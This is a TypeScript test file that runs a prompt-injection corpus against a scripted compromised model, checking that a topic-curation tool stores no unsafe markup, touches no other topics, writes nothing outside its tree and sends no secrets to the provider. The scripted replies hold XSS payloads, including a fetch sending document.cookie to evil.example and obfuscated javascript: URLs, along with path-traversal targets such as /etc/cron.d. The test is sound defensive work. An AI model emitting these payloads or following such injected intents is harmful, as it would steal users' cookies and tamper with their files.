import test from 'ava';
import { mkdir, readdir, readFile, symlink, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { startLlmServer, type Scripted } from '../helpers/llm-server.js';
import { brvJson, curateTopic, ENV, git, reply, ROOT, tempDir } from '../helpers/repo.js';

// The prompt-injection corpus (fixtures/llm/injection/*.txt) against a "compromised model" that does
// whatever the injected intent asks. Whatever it answers, nothing unsafe is stored, no topic other
// than the one the run proposes changes, nothing lands outside the work tree, and no secret-looking
// file or file outside the tree reaches the provider.

const CORPUS = path.join(ROOT, 'fixtures/llm/injection');
const KEY = 'sk-test-secret-0000';
const SECRET_MARKERS = ['FAKE-PRIVATE-KEY-MATERIAL', 'ENV-FILE-SECRET-VALUE', 'OUTSIDE-TREE-SECRET', 'root:x:0:0'];

const topic = (p: string, body: string, meta?: object) =>
  JSON.stringify({ html: `<bv-topic path="${p}" title="T">${body}</bv-topic>`, ...(meta ? { meta } : {}) });

/** What the compromised model answers to each injected intent: one reply per call, the last repeated. */
const COMPROMISED: Record<string, Scripted[]> = {
  'script-tag.txt': [
    { text: topic('security/login', '<bv-highlights><script>fetch("https://evil.example/c?"+document.cookie)</script></bv-highlights>') },
    { text: topic('security/login', '<bv-highlights><p>JWT</p><SCRIPT src="//evil.example/x.js"></SCRIPT></bv-highlights>') },
    { text: topic('security/login', '<bv-highlights><svg><script>alert(1)</script></svg></bv-highlights>') },
  ],
  'event-handlers.txt': [
    { text: topic('ops/checklist', '<bv-highlights><p onclick="alert(1)">Checklist</p><img src=x onerror="steal()"></bv-highlights>') },
    { text: topic('ops/checklist', '<bv-rule severity="must" onmouseover="steal()">Check.</bv-rule>') },
    { text: topic('ops/checklist', '<bv-highlights><details ontoggle="steal()" open><summary>x</summary></details></bv-highlights>') },
  ],
  'javascript-url.txt': [
    { text: topic('docs/portal', '<bv-highlights><a href="javascript:fetch(`//evil.example`)">docs</a></bv-highlights>') },
    {
      text: topic(
        'docs/portal',
        '<bv-highlights><a href="  JaVaScRiPt:alert(1)">docs</a><iframe srcdoc="<script>x</script>"></iframe></bv-highlights>',
      ),
    },
    { text: topic('docs/portal', '<bv-highlights><a href="data:text/html,<script>alert(1)</script>">docs</a></bv-highlights>') },
    { text: topic('docs/portal', '<bv-highlights><a href="java&#x73;cript:alert(1)">docs</a></bv-highlights>') },
  ],
  'delete-other-topics.txt': [
    { text: topic('security/jwt', '<bv-highlights><p>all clear</p></bv-highlights>', { type: 'UPDATE' }) },
    { text: topic('ops/deploy', '<bv-highlights><p>all clear</p></bv-highlights>', { type: 'DELETE' }) },
    { text: JSON.stringify({ html: '', meta: { type: 'MERGE' }, delete: ['security/jwt', 'ops/deploy', 'team/people'] }) },
    { text: topic('team/people', '', { type: 'MERGE' }) },
  ],
  'overwrite-other-topic.txt': [
    { text: topic('security/jwt', '<bv-rule severity="must">Sign with HS256.</bv-rule>', { type: 'UPDATE', impact: 'low' }) },
  ],
  'write-outside-tree.txt': [
    { text: topic('../../../../tmp/pwned', '<bv-highlights><p>x</p></bv-highlights>') },
    { text: topic('/etc/cron.d/brv', '<bv-highlights><p>x</p></bv-highlights>') },
    { text: topic('~/.bashrc', '<bv-highlights><p>x</p></bv-highlights>') },
    { text: topic('notes/..%2F..%2Fescape', '<bv-highlights><p>x</p></bv-highlights>') },
  ],
  'exfiltrate-keys.txt': [
    // It can only repeat what it was sent: the prompt holds no key, so what it stores holds none.
    {
      text: topic(
        'debug/connection',
        '<bv-fact subject="BRV_LLM_API_KEY" value="(not in my prompt)">The key was not given to me.</bv-fact>',
      ),
    },
  ],
  'mention-ssh-key.txt': [{ text: topic('ops/ssh', '<bv-highlights><p>SSH via bastion.</p></bv-highlights>') }],
  'mention-passwd.txt': [{ text: topic('ops/accounts', '<bv-highlights><p>Service accounts.</p></bv-highlights>') }],
  'multiple-topics.txt': [
    {
      text: JSON.stringify({
        html: '<bv-topic path="security/jwt" title="a"><bv-rule>x</bv-rule></bv-topic><bv-topic path="ops/deploy" title="b"><bv-rule>y</bv-rule></bv-topic><bv-topic path="team/people" title="c"><bv-rule>z</bv-rule></bv-topic>',
      }),
    },
    { text: topic('security/jwt', '<bv-topic path="ops/deploy" title="nested"><bv-rule>y</bv-rule></bv-topic>') },
  ],
  'junk-reply.txt': [
    { text: topic('junk/pad', `<bv-highlights><p>${'AAAA'.repeat(300_000)}</p></bv-highlights>`), chunks: 20 },
    { text: 'A'.repeat(1024 * 1024 + 10), chunks: 20 },
  ],
};

async function treeEntries(repo: string): Promise<Map<string, string>> {
  const out = await git(repo, 'ls-tree', '-r', 'refs/brv/heads/main');
  return new Map(
    out
      .split('\n')
      .filter(Boolean)
      .map((line) => {
        const [meta, file] = line.split('\t');
        return [file!, meta!.split(' ')[2]!];
      }),
  );
}

test("the corpus has at least 8 injected intents, each with the compromised model's replies", async (t) => {
  const cases = (await readdir(CORPUS)).filter((f) => f.endsWith('.txt')).sort();
  t.true(cases.length >= 8);
  t.deepEqual(cases, Object.keys(COMPROMISED).sort());
});

// Two halves of the corpus, each in a repository of its own, so that each test stays short.
const HALVES = [0, 1].map((half) => Object.keys(COMPROMISED).filter((_, i) => i % 2 === half));
for (const [half, cases] of HALVES.entries()) {
  test(`injection corpus ${half + 1}/2 against a compromised model: nothing unsafe stored, no other topic touched, nothing sent that must not be`, (t) =>
    runCorpus(t, cases));
}

async function runCorpus(t: import('ava').ExecutionContext, cases: string[]): Promise<void> {
  const server = await startLlmServer();
  t.teardown(() => server.close());
  // The repository in a folder of its own, so that what lands beside it is seen (the temp folder is shared).
  const repo = path.join(await tempDir(), 'project');
  await git(path.dirname(repo), 'init', '-q', '-b', 'main', repo);
  await writeFile(path.join(repo, 'README.md'), '# demo\n');
  await git(repo, 'add', '.');
  await git(repo, 'commit', '-q', '-m', 'initial');
  await git(repo, 'config', 'brv.llm.retries', '0');
  for (const [p, rule] of [
    ['security/jwt', 'Sign with RS256.'],
    ['ops/deploy', 'Deploy with canaries.'],
    ['team/people', 'Ada owns auth.'],
  ] as const) {
    await curateTopic(repo, reply(p, 'Seed', `<bv-rule severity="must">${rule}</bv-rule>`));
  }
  // Secrets where the injected mentions point: the home's ssh key, a .env and ssh folder in the tree,
  // a file beside the repository, links out of the tree, git's config.
  await mkdir(path.join(ENV.HOME!, '.ssh'), { recursive: true });
  await writeFile(path.join(ENV.HOME!, '.ssh/id_rsa'), 'FAKE-PRIVATE-KEY-MATERIAL\n');
  await mkdir(path.join(repo, '.ssh'));
  await writeFile(path.join(repo, '.ssh/id_rsa'), 'FAKE-PRIVATE-KEY-MATERIAL\n');
  await writeFile(path.join(repo, '.env'), 'TOKEN=ENV-FILE-SECRET-VALUE\n');
  const outside = path.join(repo, '..', 'outside-secret.txt');
  await writeFile(outside, 'OUTSIDE-TREE-SECRET\n');
  await symlink(outside, path.join(repo, 'link-out.txt'));
  const parentBefore = (await readdir(path.join(repo, '..'))).sort();

  const env = {
    BRV_LLM_PROVIDER: 'openai-compatible',
    BRV_LLM_BASE_URL: server.url,
    BRV_LLM_MODEL: 'test-model',
    BRV_LLM_API_KEY: KEY,
    OPENAI_API_KEY: KEY,
  };
  for (const name of cases) {
    const intent = (await readFile(path.join(CORPUS, name), 'utf8')).trim();
    const replies = COMPROMISED[name]!;
    let calls = 0;
    server.fallback = () => replies[Math.min(calls++, replies.length - 1)]!;
    const first = server.requests.length;
    const before = await treeEntries(repo);
    const run = await brvJson(repo, ['curate', intent, '--auto'], { env });
    t.truthy(run.json, `${name}: ${run.stdout} ${run.stderr}`);
    t.true(calls <= 4, `${name}: at most four model calls`);

    // At most one topic path changed, and it is not one that existed: no other topic was touched.
    const after = await treeEntries(repo);
    for (const [file, oid] of before) t.is(after.get(file), oid, `${name}: ${file} unchanged`);
    const added = [...after.keys()].filter((file) => !before.has(file));
    t.true(added.length <= 1, `${name}: added ${added.join(', ')}`);
    if (run.json?.data.ok) t.deepEqual(added, [`${run.json.data.topicPath}.html`], name);
    else t.deepEqual(added, [], name);

    // What reached the provider: no key, no secret-looking file, nothing from outside the tree.
    for (const request of server.requests.slice(first)) {
      t.false(request.prompt.includes(KEY), `${name}: key in a prompt`);
      for (const marker of SECRET_MARKERS) t.false(request.prompt.includes(marker), `${name}: ${marker} in a prompt`);
      t.false(JSON.stringify(request.headers).includes('FAKE-PRIVATE'), name);
    }
  }
  t.false(
    server.requests.some((r) => r.prompt.includes('<attached-file')),
    'no mention of the corpus attached anything',
  );

  // Nothing unsafe in any object of the repository, whatever was refused.
  const objects = await git(repo, 'cat-file', '--batch-all-objects', '--batch');
  t.notRegex(objects, /<script|<iframe|<svg|srcdoc|javascript:|\son[a-z]+\s*=/i);
  t.false(objects.includes(KEY));
  for (const marker of SECRET_MARKERS) t.false(objects.includes(marker), marker);
  // Nothing written beside the repository, nor where the injections pointed.
  t.deepEqual((await readdir(path.join(repo, '..'))).sort(), parentBefore);
  await t.throwsAsync(readFile('/tmp/pwned'));
  t.deepEqual(await readdir(path.join(repo, '.git/brv/sessions')).catch(() => []), []);
}
